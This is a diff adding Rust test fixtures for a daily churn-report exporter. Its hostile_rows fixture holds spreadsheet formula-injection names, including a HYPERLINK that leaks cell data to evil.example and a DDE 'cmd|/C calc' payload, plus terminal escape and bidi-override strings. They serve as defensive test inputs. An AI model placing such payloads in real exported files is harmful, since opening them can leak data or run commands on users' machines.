@@ -1,0 +1,92 @@
+//! The forms of one small report, and the files of a published day.
+
+mod files;
+mod forms;
+mod versions;
+
+use crate::domain::counters::Figures;
+use crate::domain::daily_row::{DailyRow, Judged, ShownRow, Trust};
+use crate::domain::ids::{GroupId, UnitId};
+use crate::domain::indicator::{Scope, Verdict};
+use crate::domain::local_day::LocalDay;
+
+/// 2026-05-31, a Sunday.
+const DAY: LocalDay = LocalDay::from_number(20_604);
+
+fn group(id: &str) -> Scope {
+    Scope::Group(GroupId::parse(id).unwrap())
+}
+
+/// A row with figures that all differ, and the four indicators by the contract's formulas.
+fn row(scope: Scope, name: &str, opening: i64, verdict: Verdict) -> DailyRow {
+    let figures = Figures {
+        opening,
+        closing: opening + 3 - 11,
+        joined: 3,
+        lost: 11,
+        churned_voluntary: 4,
+        churned_involuntary: 2,
+        ported_out: 1,
+        suspended: 5,
+        newly_suspended: 1,
+        complaints: 6,
+        open_complaints: 2,
+        survey_answers: 3,
+        survey_score_thousandths: 250_125,
+        developed: 8,
+        billed: 90,
+        billed_fen: 123_456_789,
+    };
+    let rate = |n: i64| (opening > 0).then(|| n as f64 / opening as f64);
+    let judged = |value| Judged { value, verdict };
+    DailyRow {
+        day: DAY,
+        unit_id: scope.group().map(|_| "U01".to_owned()),
+        scope,
+        name: name.to_owned(),
+        figures,
+        indicators: [judged(rate(7)), judged(rate(11)), judged(rate(60_000)), judged(Some(250.125 / 3.0))],
+        balance_churn_rate: None,
+        trust: Trust::Ok,
+        trust_reasons: Vec::new(),
+    }
+}
+
+fn shown(row: DailyRow) -> ShownRow {
+    ShownRow { row, version: Some(2), as_of: "2026-06-01T17:00:00.5Z".to_owned(), restated: false }
+}
+
+fn plain_rows() -> Vec<ShownRow> {
+    let mut company = row(Scope::Company, "四川移动", 120_000, Verdict::Ok);
+    company.trust = Trust::Warning;
+    company.trust_reasons = vec!["投诉源 cmp-3 只读到 23:40".to_owned(), "差距 3.2 个百分点".to_owned()];
+    company.balance_churn_rate = Some(0.031);
+    let unit = row(Scope::Unit(Some(UnitId::parse("U01").unwrap())), "成都高新分公司", 4_000, Verdict::Watch);
+    let mut group_over = shown(row(group("G0001"), "成都天府软件园有限公司", 233, Verdict::Breach));
+    group_over.restated = true;
+    let mut empty = row(group("G0002"), "Ünïcode & Co 株式会社", 0, Verdict::InsufficientData);
+    empty.indicators[3].value = None;
+    empty.figures = Figures { opening: 0, closing: 0, joined: 0, lost: 0, billed_fen: -5, ..Figures::default() };
+    let mut unassigned = row(Scope::Unit(None), "unassigned", 1_000, Verdict::FeedIncomplete);
+    unassigned.trust = Trust::Failed;
+    vec![shown(company), shown(unit), shown(unassigned), group_over, shown(empty)]
+}
+
+/// Names as an attacker or a broken BOSS would choose them.
+fn hostile_rows() -> Vec<ShownRow> {
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
+        "+8613800008000",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd",
+        "\t=1+1",
+        "＝1＋1",
+        "引号\"与,逗号\r\n与换行",
+        "\u{1b}[31m红\u{1b}[0m\u{9b}2J\u{7}",
+        "反\u{202e}转\u{2066}文\u{200b}字",
+        "<b>&amp;</b>{\"a\":1}\\",
+        "𠮷野家😀👨‍👩‍👧",
+        "",
+    ];
+    names.iter().zip(1..).map(|(name, n)| shown(row(group(&format!("={n}")), name, 100 + n, Verdict::Ok))).collect()
+}
